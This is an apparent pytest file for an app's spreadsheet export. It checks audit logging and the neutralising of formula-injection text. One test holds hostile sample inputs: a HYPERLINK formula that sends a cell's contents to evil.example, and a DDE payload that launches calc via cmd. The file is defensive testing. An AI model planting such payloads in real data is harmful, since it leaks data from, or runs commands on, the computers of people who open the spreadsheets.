# ruff: noqa: F811 - the shared fixtures are imported from test_mobility
"""Exports: every one is audited (who, which filters, how many rows), and text a
spreadsheet would run as a formula is neutralised (OWASP spreadsheet injection)."""

from __future__ import annotations

import io
from typing import Any

import httpx
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from app.audit.models import AuditEntry
from app.core.xlsx import neutralize
from tests.api.test_mobility import (  # noqa: F401 - fixtures
    Clock,
    World,
    approve,
    clock,
    register,
    world,
)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


async def _rows(client: httpx.AsyncClient, headers: dict[str, str], query: str) -> list[Any]:
    response = await client.get(f"/api/v1/outflows/export?{query}", headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith(XLSX)
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    return list(sheet.iter_rows(values_only=True))[2:]


async def _exports(db: AsyncSession) -> list[AuditEntry]:
    rows = await db.execute(
        select(AuditEntry)
        .where(AuditEntry.action.in_(("outflow.export", "outflow.export_full")))
        .order_by(AuditEntry.id)
    )
    return list(rows.scalars())


async def test_masked_exports_are_audited_with_filters_and_row_count(
    client: httpx.AsyncClient, world: World, clock: Clock, db: AsyncSession
) -> None:
    await approve(client, world.branch_admin, await register(client, world.member))
    rows = await _rows(client, world.county_admin.headers, "status=active")
    assert len(rows) == 1
    none = await _rows(
        client, world.county_admin.headers, f"status=pending&org_id={world.branch.id}"
    )
    assert none == []
    first, second = await _exports(db)
    assert first.action == second.action == "outflow.export"
    assert first.actor_account_id == world.county_admin.account.id
    assert first.detail == {"rows": 1, "filters": {"status": "active"}, "full": False}
    # Without a filter, the exporter's own organisation keeps the entry.
    assert first.org_id == world.county.id
    assert second.detail == {
        "rows": 0,
        "filters": {"status": "pending", "org_id": str(world.branch.id)},
        "full": False,
    }
    assert second.org_id == world.branch.id
    assert first.ip == "203.0.113.7" and first.reason is None
    # The county's audit log shows both to its admins.
    log = await client.get(
        "/api/v1/audit", params={"action": "outflow.export"}, headers=world.county_admin.headers
    )
    assert [e["id"] for e in log.json()["items"]] == [second.id, first.id]


async def test_formula_text_is_neutralised_in_exports(
    client: httpx.AsyncClient, world: World, clock: Clock, db: AsyncSession
) -> None:
    hostile = {
        "employer": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
        "destination_address": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    await register(client, world.member, **hostile)
    (row,) = await _rows(client, world.county_admin.headers, "")
    assert row[7] == "'" + hostile["employer"]
    assert row[6] == "'" + hostile["destination_address"]
    # Ordinary text is left alone.
    assert row[1] == "王建国"


def test_every_formula_trigger_is_neutralised() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralize(trigger + "1+1") == "'" + trigger + "1+1"
    for harmless in ("王建国", "1+1", "a=b", "", "'=x"):
        assert neutralize(harmless) == harmless
